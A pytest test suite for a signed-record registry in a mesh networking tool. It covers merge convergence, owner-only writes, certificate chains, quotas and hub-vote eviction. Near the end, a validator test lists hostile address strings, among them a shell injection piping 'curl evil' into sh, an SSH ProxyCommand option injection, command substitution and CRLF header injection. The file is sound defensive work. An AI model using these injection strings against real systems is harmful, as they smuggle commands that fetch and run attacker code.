"""The G-Map's invariants (registry.py's docstring), on signed records."""

import itertools
import math
import time

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fabrictool.mesh.identity import Credential, IdentityError, certify, create_root, issue_provider, issue_session
from fabrictool.mesh.records import (
    Envelope,
    Lifecycle,
    NodeHardware,
    Record,
    RecordError,
    WitnessBody,
    decode,
    seal,
    with_note,
)
from fabrictool.mesh.registry import Verdict
from tests.mesh.signed_records import NOW, PROVIDERS, ROOT, SESSIONS, VERIFIER, fresh, node, sealed, service


@st.composite
def updates(draw):
    """Signed envelopes of three owners, equivocations among them (same rank, other content)."""
    out = [sealed(owner, node(owner)).envelope for owner in SESSIONS]
    for _ in range(draw(st.integers(1, 12))):
        owner = draw(st.sampled_from(SESSIONS))
        version, lifecycle = draw(st.integers(1, 4)), draw(st.sampled_from(list(Lifecycle)))
        if draw(st.booleans()):
            body = node(owner, version, lifecycle, node=draw(st.sampled_from(["n", "other"])))
        else:
            body = service(owner, draw(st.integers(0, 2)), version, lifecycle, accepting=draw(st.booleans()))
        out.append(sealed(owner, body).envelope)
    return out


def content(registry):
    return {record.key: record.envelope.body for record in registry}


@settings(max_examples=60)
@given(updates(), st.randoms(use_true_random=False))
def test_order_repetition_and_batching_never_matter(envelopes, rng):
    first, second = fresh(), fresh()
    for envelope in envelopes:
        first.merge(envelope, wall=NOW)
    shuffled = envelopes * 2
    rng.shuffle(shuffled)
    for _ in range(2):  # a service that comes before its node is an orphan; reconciliation brings it again
        for envelope in shuffled:
            second.merge(envelope, wall=NOW)
    assert content(first) == content(second)
    assert first.root() == second.root()
    assert first.bucket_digests() == second.bucket_digests()


@settings(max_examples=40)
@given(updates())
def test_a_rank_never_decreases(envelopes):
    registry, ranks = fresh(), {}
    for envelope in envelopes:
        registry.merge(envelope, wall=NOW)
        for record in registry:
            assert record.rank >= ranks.get(record.key, record.rank)
            ranks[record.key] = record.rank


def test_two_bodies_of_one_rank_converge():
    owner = SESSIONS[0]
    one, other = sealed(owner, node(owner, node="a")).envelope, sealed(owner, node(owner, node="b")).envelope
    registries = [fresh(), fresh()]
    for registry, order in zip(registries, ([one, other], [other, one]), strict=True):
        for envelope in order:
            registry.merge(envelope, wall=NOW)
    assert content(registries[0]) == content(registries[1])


def test_a_stale_record_is_answered_with_the_newer_one():
    owner, registry = SESSIONS[0], fresh()
    new = sealed(owner, node(owner, 5))
    registry.merge(new.envelope, wall=NOW)
    merge = registry.merge(sealed(owner, node(owner, 4)).envelope, wall=NOW)
    assert (merge.verdict, merge.record) == (Verdict.STALE, registry.get(new.key))


def test_only_the_owner_writes():
    owner, thief = SESSIONS[0], SESSIONS[1]
    registry = fresh()
    registry.merge(sealed(owner, node(owner)).envelope, wall=NOW)
    forged = seal(node(owner, 9, Lifecycle.LEFT), thief.sign, thief.chain)
    with_owner_chain = seal(node(owner, 9, Lifecycle.LEFT), thief.sign, owner.chain)
    foreign_service = seal(service(owner), thief.sign)
    for record in (forged, with_owner_chain, foreign_service):
        assert registry.merge(record.envelope, wall=NOW).verdict is Verdict.REJECTED
    assert registry.get(bytes.fromhex(owner.claims.session)).body.version == 1


@pytest.mark.parametrize(
    "change",
    [{"provider": "beta"}, {"role": "gateway"}, {"federation": "00" * 16}],
    ids=["provider", "role", "federation"],
)
def test_a_record_may_not_claim_what_its_certificate_does_not(change):
    owner = SESSIONS[0]
    assert fresh().merge(sealed(owner, node(owner, **change)).envelope, wall=NOW).verdict is Verdict.REJECTED


def test_a_flipped_bit_is_refused():
    owner = SESSIONS[0]
    envelope = sealed(owner, node(owner)).envelope
    for index in range(0, len(envelope.body), 7):
        body = bytearray(envelope.body)
        body[index] ^= 1
        bad = msgspec.structs.replace(envelope, body=bytes(body))
        assert fresh().merge(bad, wall=NOW).verdict is Verdict.REJECTED


def test_a_service_without_its_node_waits():
    owner, registry = SESSIONS[0], fresh()
    envelope = sealed(owner, service(owner)).envelope
    assert registry.merge(envelope, wall=NOW).verdict is Verdict.ORPHAN
    assert len(registry) == 0
    registry.merge(sealed(owner, node(owner)).envelope, wall=NOW)
    assert registry.merge(envelope, wall=NOW).verdict is Verdict.NEW


def test_only_serving_and_accepting_services_on_serving_nodes_are_routable():
    owner, registry = SESSIONS[0], fresh()
    steps = [
        (node(owner, 1, Lifecycle.JOIN), 0),
        (service(owner, 1, 1), 0),
        (node(owner, 2, Lifecycle.SERVING), 1),
        (service(owner, 1, 2, accepting=False), 0),
        (service(owner, 2, 1), 1),
        (service(owner, 2, 2, Lifecycle.DOWN), 0),
        (service(owner, 2, 3, Lifecycle.SERVING), 0),
        (service(owner, 3, 1), 1),
        (node(owner, 3, Lifecycle.LEFT), 0),
    ]
    for body, routable in steps:
        registry.merge(sealed(owner, body).envelope, wall=NOW)
        assert len(registry.serving(wall=NOW)) == routable, body


def test_an_expired_session_is_neither_accepted_nor_routable_and_is_forgotten():
    owner = issue_session(PROVIDERS["alpha"], "agent", now=NOW, seconds=100)
    registry = fresh()
    for body in (node(owner), service(owner)):
        registry.merge(sealed(owner, body).envelope, wall=NOW)
    assert len(registry.serving(wall=NOW)) == 1
    assert registry.serving(wall=NOW + 200) == []
    late = sealed(owner, service(owner, 1)).envelope
    assert registry.merge(late, wall=NOW + 200).verdict is Verdict.REJECTED
    assert registry.forget_expired(wall=NOW + 200) == []
    assert registry.forget_expired(wall=NOW + 100_000) == [bytes.fromhex(owner.claims.session)]
    assert len(registry) == 0
    assert registry.root() == fresh().root()
    stale_replica = sealed(owner, node(owner)).envelope
    assert registry.merge(stale_replica, wall=NOW + 100_000).verdict is Verdict.REJECTED, "no resurrection"


def test_a_version_cannot_jump_to_the_end():
    owner, registry = SESSIONS[0], fresh()
    last = sealed(owner, node(owner, 2**32 - 1)).envelope
    assert registry.merge(last, wall=NOW).verdict is Verdict.REJECTED, "nor begin there"
    registry.merge(sealed(owner, node(owner)).envelope, wall=NOW)
    assert registry.merge(last, wall=NOW).verdict is Verdict.REJECTED


@settings(max_examples=200)
@given(st.binary(max_size=300))
def test_garbage_is_refused_and_never_raises(data):
    registry = fresh()
    assert registry.merge(Envelope(data, b"x" * 64), wall=NOW).verdict in (Verdict.REJECTED, Verdict.ORPHAN)
    assert len(registry) == 0


def test_a_body_over_the_limit_is_refused():
    owner = SESSIONS[0]
    with pytest.raises(RecordError):
        sealed(owner, service(owner, note="x" * 1000, model="m" * 500, replica="r" * 600))


def test_decode_is_the_inverse_of_seal():
    owner = SESSIONS[0]
    body = node(owner, hardware=NodeHardware("a100-80g", 4, 80 * 2**30), ends_at=NOW + 5)
    record = sealed(owner, body)
    assert decode(record.envelope).body == body
    assert len(record.envelope.body) < 400


def test_chains_are_checked():
    stranger = create_root("other", now=NOW)
    foreign = issue_session(issue_provider(stranger, "alpha", now=NOW), "agent", now=NOW)
    mixed = issue_session(PROVIDERS["beta"], "agent", now=NOW)
    cases = {
        "FT6004": [foreign.chain, (mixed.chain[0], PROVIDERS["alpha"].chain[0])],
        "FT6003": [(), SESSIONS[0].chain[:1], (ROOT.chain[0], ROOT.chain[0]), (b"junk", b"junk"), (b"x" * 5000,) * 2],
        "FT6005": [issue_session(PROVIDERS["alpha"], "agent", now=NOW - 10**6, seconds=60).chain],
    }
    for code, chains in cases.items():
        for chain in chains:
            with pytest.raises(IdentityError) as refused:
                VERIFIER.verify(tuple(chain), now=NOW)
            assert refused.value.problems[0].code == code
    assert VERIFIER.verify(SESSIONS[0].chain, now=NOW).claims == SESSIONS[0].claims


def test_a_credential_survives_its_pem_form():
    again = Credential.from_pem(SESSIONS[0].key_pem(), SESSIONS[0].chain_pem())
    assert again.claims == SESSIONS[0].claims
    assert VERIFIER.verify(again.chain, now=max(NOW, time.time())).verify(again.sign(b"m"), b"m")


@pytest.mark.parametrize("text", ["x", "é", "错", "😀"])
@pytest.mark.parametrize("name", ["m", "m" * 190])
def test_a_note_takes_the_room_that_its_record_has(text, name):
    owner = SESSIONS[0]
    body = service(owner, lifecycle=Lifecycle.DOWN, model=name, engine=name, precision=name, replica=name)
    body = msgspec.structs.replace(body, context=2**40, tp=4096, version=2**32 - 1, accepting=False)
    noted = with_note(body, f"it was killed {text * 3000}")
    assert decode(sealed(owner, noted).envelope).body == noted
    assert noted.note.startswith("it was killed ")
    assert noted.note.endswith(text)
    assert len(noted.note) > 100


# -- quotas, refusals, witnesses --------------------------------------------------------------------------------------


def test_a_session_fills_its_own_part_and_no_more(monkeypatch):
    monkeypatch.setattr("fabrictool.mesh.registry.SESSION_SERVICES", 3)
    monkeypatch.setattr("fabrictool.mesh.registry.PROVIDER_SESSIONS", 2)
    first, other_provider, second = SESSIONS
    registry = fresh()
    assert registry.merge(sealed(first, node(first)).envelope, wall=NOW).verdict is Verdict.NEW
    for number in range(5):
        merge = registry.merge(sealed(first, service(first, number)).envelope, wall=NOW)
        assert merge.verdict is (Verdict.NEW if number < 3 else Verdict.REJECTED), merge
    assert registry.merge(sealed(first, service(first, 0, 2)).envelope, wall=NOW).verdict is Verdict.NEW, "a change"
    assert registry.merge(sealed(second, node(second)).envelope, wall=NOW).verdict is Verdict.NEW
    third = issue_session(PROVIDERS["alpha"], "agent", now=NOW)
    refused = registry.merge(sealed(third, node(third)).envelope, wall=NOW)
    assert (refused.verdict, refused.reason) == (Verdict.REJECTED, "provider alpha has 2 sessions already")
    assert registry.merge(sealed(other_provider, node(other_provider)).envelope, wall=NOW).verdict is Verdict.NEW


def test_what_was_refused_is_not_checked_again_for_a_while(monkeypatch):
    registry, owner = fresh(), SESSIONS[0]
    envelope = sealed(owner, node(owner)).envelope
    checks = []
    verify = VERIFIER.verify
    monkeypatch.setattr(VERIFIER, "verify", lambda chain, *, now: checks.append(now) or verify(chain, now=now))
    early = NOW - 10**6
    results = [registry.merge(envelope, wall=wall) for wall in (early, early + 1, early + 1)]
    assert [(merge.verdict, merge.repeated) for merge in results] == [
        (Verdict.REJECTED, False),
        (Verdict.REJECTED, True),
        (Verdict.REJECTED, True),
    ]
    assert len(checks) == 1
    assert registry.merge(envelope, wall=NOW).verdict is Verdict.NEW, "the clock was set right"


def test_a_forged_copy_does_not_bar_the_true_record():
    registry, owner, thief = fresh(), SESSIONS[0], SESSIONS[1]
    true = sealed(owner, node(owner)).envelope
    for copy in (
        msgspec.structs.replace(true, chain=thief.chain),
        msgspec.structs.replace(true, signature=b"x" * 64),
        msgspec.structs.replace(true, signature=thief.sign(b"y")),
    ):
        assert registry.merge(copy, wall=NOW).verdict is Verdict.REJECTED
    assert registry.merge(true, wall=NOW).verdict is Verdict.NEW


def witness(hub, suspect, version=1, **changes):
    fields = {
        "federation": VERIFIER.federation,
        "session": bytes.fromhex(hub.claims.session),
        "suspect": bytes.fromhex(suspect.claims.session),
        "lifecycle": Lifecycle.JOIN,
        "version": version,
        "seen": 1,
        "until": NOW + 1000,
        "suspects": True,
        "votes": True,
    }
    return WitnessBody(**(fields | changes))


def test_a_word_without_an_end_does_not_keep_the_map_from_forgetting():
    """What has no place in an order would stand at the head of those that wait for their end."""
    registry, hub = fresh(), hub_of("alpha")
    registry.merge(sealed(hub, node(hub, role="gateway")).envelope, wall=NOW)
    brief = [issue_session(PROVIDERS["beta"], "agent", now=NOW, seconds=3600.0 + n) for n in range(8)]
    for owner, until in zip(brief, [math.nan, math.nan, -math.inf, math.inf, NOW, *[math.nan] * 3], strict=True):
        registry.merge(sealed(owner, node(owner)).envelope, wall=NOW)
        word = witness(hub, issue_session(PROVIDERS["beta"], "agent", now=NOW), until=until, votes=False)
        assert registry.merge(sealed(hub, word).envelope, wall=NOW).verdict is Verdict.NEW
    gone = {bytes.fromhex(owner.claims.session) for owner in brief}
    assert set(registry.forget_expired(wall=NOW + 14400.0, margin=3600.0)) == gone
    kept = [str(record.body.until) for record in registry if isinstance(record.body, WitnessBody)]
    assert sorted(kept) == ["inf", *["nan"] * 5]


def test_a_session_whose_certificate_was_renewed_is_kept_until_the_new_one_ends():
    registry, brief = fresh(), issue_session(PROVIDERS["beta"], "agent", now=NOW, seconds=3600.0)
    registry.merge(sealed(brief, node(brief)).envelope, wall=NOW)
    chain = certify(PROVIDERS["beta"], brief.key.public_key(), "agent", now=NOW, seconds=86400.0)
    renewed = Credential(brief.key, chain)
    registry.merge(sealed(renewed, node(renewed, 2)).envelope, wall=NOW)
    assert registry.forget_expired(wall=NOW + 2 * 3600.0, margin=600.0) == []
    assert registry.forget_expired(wall=NOW + 10 * 86400.0, margin=600.0) == [bytes.fromhex(brief.claims.session)]


def hub_of(provider):
    return issue_session(PROVIDERS[provider], "gateway", now=NOW)


@pytest.mark.parametrize(
    ("hubs", "voters", "evicted"),
    [
        (["beta"], [], False),
        (["beta"], [0], True),
        (["beta", "gamma"], [0], False),
        (["beta", "gamma"], [0, 1], True),
        (["beta", "beta", "gamma"], [0, 1], False),
        (["alpha", "beta", "gamma"], [0], True),
    ],
    ids=["nobody", "the-only-one", "one-of-two", "two", "two-of-one-provider", "its-own-provider"],
)
def test_who_may_evict_a_session_of_alpha(hubs, voters, evicted):
    suspect, registry = SESSIONS[0], fresh()
    credentials = [hub_of(provider) for provider in hubs]
    for owner in (suspect, *credentials):
        registry.merge(sealed(owner, node(owner, role=owner.claims.role)).envelope, wall=NOW)
    registry.merge(sealed(suspect, service(suspect)).envelope, wall=NOW)
    for index in voters:
        merge = registry.merge(sealed(credentials[index], witness(credentials[index], suspect)).envelope, wall=NOW)
        assert merge.verdict is Verdict.NEW
    session = bytes.fromhex(suspect.claims.session)
    assert registry.evicted(session) is evicted
    assert (session in {entry.node.session for entry in registry.serving(wall=NOW)}) is not evicted
    assert (session in {body.session for body in registry.nodes(wall=NOW)}) is not evicted


def test_a_hub_that_was_voted_out_is_not_waited_for_until_its_certificate_ends():
    suspect, registry = SESSIONS[0], fresh()  # of alpha
    living, dead = hub_of("beta"), hub_of("gamma")
    for owner in (suspect, living, dead):
        registry.merge(sealed(owner, node(owner, role=owner.claims.role)).envelope, wall=NOW)
    registry.merge(sealed(living, witness(living, suspect)).envelope, wall=NOW)
    session, gone = (bytes.fromhex(credential.claims.session) for credential in (suspect, dead))
    assert not registry.evicted(session), "the other hub's provider has a vote, too"
    registry.merge(sealed(living, witness(living, dead)).envelope, wall=NOW)
    assert registry.evicted(gone)
    assert registry.evicted(session)
    registry.merge(sealed(dead, node(dead, 2, role="gateway")).envelope, wall=NOW)
    assert not registry.evicted(session), "it spoke again"
    registry.merge(sealed(living, witness(living, dead, 2, seen=2)).envelope, wall=NOW)
    registry.merge(sealed(dead, witness(dead, living)).envelope, wall=NOW)
    assert not registry.evicted(session), "two that accuse each other: nobody is left whose votes could be enough"


def test_a_hub_that_was_voted_out_has_no_vote_where_fewer_are_needed_for_its_being_out():
    """Cut off alone it voted against all others, and they against it: when it is heard again, its votes are old."""
    registry, agent = fresh(), SESSIONS[1]  # of beta
    hubs = [alone, *others] = [hub_of("beta"), hub_of("alpha"), hub_of("gamma")]
    for owner in (agent, *hubs):
        registry.merge(sealed(owner, node(owner, role=owner.claims.role)).envelope, wall=NOW)
    for other in (agent, *others):
        registry.merge(sealed(alone, witness(alone, other)).envelope, wall=NOW)
    assert registry.evicted(bytes.fromhex(agent.claims.session)), "by a hub of its own provider"
    for other in others:
        registry.merge(sealed(other, witness(other, alone)).envelope, wall=NOW)
    assert registry.evicted(bytes.fromhex(alone.claims.session))
    for credential in (agent, *others):
        assert not registry.evicted(bytes.fromhex(credential.claims.session))


def test_only_its_owner_brings_an_evicted_session_back():
    suspect, hub, registry = SESSIONS[0], hub_of("beta"), fresh()
    old = sealed(suspect, node(suspect))
    for owner in (suspect, hub):
        registry.merge(sealed(owner, node(owner, role=owner.claims.role)).envelope, wall=NOW)
    registry.merge(sealed(hub, witness(hub, suspect)).envelope, wall=NOW)
    assert registry.evicted(old.key)
    assert registry.merge(old.envelope, wall=NOW).verdict is Verdict.SAME, "a stale replica that returns"
    assert registry.evicted(old.key)
    forged = seal(node(suspect, 2), hub.sign, suspect.chain)
    assert registry.merge(forged.envelope, wall=NOW).verdict is Verdict.REJECTED
    assert registry.evicted(old.key)
    registry.merge(sealed(suspect, node(suspect, 2)).envelope, wall=NOW)
    assert not registry.evicted(old.key)
    registry.merge(sealed(hub, witness(hub, suspect, 2, seen=2)).envelope, wall=NOW)
    assert registry.evicted(old.key)
    registry.merge(sealed(hub, witness(hub, suspect, 3, seen=2, suspects=False, votes=False)).envelope, wall=NOW)
    assert not registry.evicted(old.key)


def test_an_agent_is_no_witness():
    agent, suspect, registry = SESSIONS[1], SESSIONS[0], fresh()
    for owner in (agent, suspect):
        registry.merge(sealed(owner, node(owner)).envelope, wall=NOW)
    merge = registry.merge(sealed(agent, witness(agent, suspect)).envelope, wall=NOW)
    assert (merge.verdict, merge.reason) == (Verdict.REJECTED, "only a hub may say that another is gone")


def test_what_was_said_of_a_session_is_forgotten_with_it():
    suspect = issue_session(PROVIDERS["alpha"], "agent", now=NOW, seconds=100)
    hub, registry = hub_of("beta"), fresh()
    for owner in (suspect, hub):
        registry.merge(sealed(owner, node(owner, role=owner.claims.role)).envelope, wall=NOW)
    registry.merge(sealed(hub, witness(hub, suspect, until=NOW + 100)).envelope, wall=NOW)
    registry.forget_expired(wall=NOW + 10_000)
    assert [record.key for record in registry] == [bytes.fromhex(hub.claims.session)]
    assert registry.witnesses(bytes.fromhex(suspect.claims.session)) == []


# -- mutants: a join that forgets a part of the order (mesh.md §3.4) ------------------------------------------------


def converges(envelopes, orders):
    """Whether replicas that saw the same in other orders are equal, and none goes back."""
    results = []
    for order in orders:
        registry = fresh()
        for index in order:
            registry.merge(envelopes[index], wall=NOW)
        results.append(content(registry))
    return all(result == results[0] for result in results)


MUTANTS = {
    "by-version-alone": lambda record: (record.body.version,),
    "version-before-lifecycle": lambda record: (record.body.version, record.body.lifecycle, record.hash),
    "without-the-content": lambda record: (record.body.lifecycle, record.body.version),
}


def equivocations():
    owner = SESSIONS[0]
    bodies = [
        node(owner, 1, Lifecycle.SERVING, node="a"),
        node(owner, 1, Lifecycle.SERVING, node="b"),
        node(owner, 1, Lifecycle.LEFT),
        node(owner, 2, Lifecycle.SERVING),
    ]
    return [sealed(owner, body).envelope for body in bodies]


def holds():
    envelopes = equivocations()
    orders = list(itertools.permutations(range(len(envelopes))))
    registry = fresh()
    for envelope in envelopes:
        registry.merge(envelope, wall=NOW)
    final = registry.get(bytes.fromhex(SESSIONS[0].claims.session)).body.lifecycle is Lifecycle.LEFT
    return final and converges(envelopes, orders) and converges(envelopes[:2], [(0, 1), (1, 0)])


def test_the_join_needs_every_part_of_its_order(monkeypatch):
    assert holds()
    for name, rank in MUTANTS.items():
        with monkeypatch.context() as patched:
            patched.setattr(Record, "rank", property(rank))
            assert not holds(), name


@pytest.mark.parametrize(
    "address",
    ["x;curl evil|sh;#:8443", "x:²", "x\r\nHost: y:1", "x:1\n", "-oProxyCommand=x:1", "x", ":", "x y:1", "$(x):1"],
)
def test_an_address_that_is_none_is_refused(address):
    hub = hub_of("alpha")
    merge = fresh().merge(sealed(hub, node(hub, role="gateway", addresses=(address,))).envelope, wall=NOW)
    assert merge.verdict is Verdict.REJECTED


@pytest.mark.parametrize("address", ["10.1.2.3:8443", "gate.site-a.example:1", "::1:8443", "localhost:65535"])
def test_an_address_of_a_hub_is_taken(address):
    hub = hub_of("alpha")
    merge = fresh().merge(sealed(hub, node(hub, role="gateway", addresses=(address,))).envelope, wall=NOW)
    assert merge.verdict is Verdict.NEW
